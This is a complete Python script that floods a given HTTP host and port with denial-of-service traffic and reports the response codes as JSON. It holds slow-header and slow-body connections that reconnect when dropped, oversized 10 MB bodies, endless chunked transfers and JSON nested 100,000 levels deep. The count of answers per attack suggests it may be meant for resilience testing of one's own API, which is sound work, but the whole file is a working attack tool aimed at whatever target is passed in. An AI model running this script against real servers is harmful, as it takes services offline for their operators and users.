"""Attacks an HTTP API: `python web_flood.py HOST PORT CONNECTIONS SECONDS`; prints how it was answered, as JSON.

Half of the connections drip a head, half a body, a byte at a time, and begin anew when they are cut off. Beside them
bodies of 10 MB, some that say so and some that do not, and bodies nested too deep. Counts answers by attack and status.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import sys
import time
from collections import Counter

PAUSE = 0.2  # seconds between two bytes
HEAD = b"POST /api/jobs HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
MEGABYTE = b" " * 1_000_000


async def drip(host: str, port: int, ends: float, start: bytes, kind: str, seen: Counter[str]) -> None:
    """Send `start`, then bytes that never end, until cut off; then again."""
    while time.monotonic() < ends:
        status = "closed"
        with contextlib.suppress(ConnectionError):
            reader, writer = await asyncio.open_connection(host, port)
            writer.write(start)
            answer = asyncio.ensure_future(reader.read(12))
            while not answer.done() and time.monotonic() < ends:
                with contextlib.suppress(ConnectionError):
                    writer.write(b"x")
                    await writer.drain()
                await asyncio.wait({answer}, timeout=PAUSE)
            if not answer.done():
                status = "open"
                answer.cancel()
            elif not answer.cancelled() and answer.exception() is None and answer.result():
                status = answer.result().split()[1].decode()
            writer.close()
        seen[f"{kind} {status}"] += 1


async def send(
    host: str, port: int, ends: float, kind: str, parts: list[bytes], pause: float, seen: Counter[str]
) -> None:
    """Send a request as fast as it goes, read its status, again and again."""
    while time.monotonic() < ends:
        status = "closed"  # while it was still sending, by a server that has said all it had to say
        with contextlib.suppress(ConnectionError):
            reader, writer = await asyncio.open_connection(host, port)
            answer = asyncio.ensure_future(reader.read(12))
            with contextlib.suppress(ConnectionError):
                for part in parts:
                    if answer.done():
                        break
                    writer.write(part)
                    await writer.drain()
            with contextlib.suppress(ConnectionError):
                if said := await answer:
                    status = said.split()[1].decode()
            writer.close()
        seen[f"{kind} {status}"] += 1
        await asyncio.sleep(pause)


async def attack(host: str, port: int, connections: int, seconds: float) -> Counter[str]:
    """All of it at once."""
    seen: Counter[str] = Counter()
    ends = time.monotonic() + seconds
    chunk = b"%x\r\n%b\r\n" % (len(MEGABYTE), MEGABYTE)
    nested = b'{"type": "a", "payload": ' + b'{"k": ' * 100_000
    said = HEAD + b"Content-Length: %d\r\n\r\n"
    attacks = [
        *(drip(host, port, ends, HEAD + b"X-Slow: ", "head", seen) for _ in range(connections // 2)),
        *(drip(host, port, ends, said % 4000 + b"{", "body", seen) for _ in range(connections - connections // 2)),
        send(host, port, ends, "large", [said % 10_000_000, *[MEGABYTE] * 10], 0.2, seen),
        send(host, port, ends, "endless", [HEAD + b"Transfer-Encoding: chunked\r\n\r\n", *[chunk] * 10], 0.2, seen),
        send(host, port, ends, "deep", [said % len(nested), nested], 0.2, seen),
    ]
    await asyncio.gather(*attacks)
    return seen


if __name__ == "__main__":
    print(json.dumps(asyncio.run(attack(sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])))))
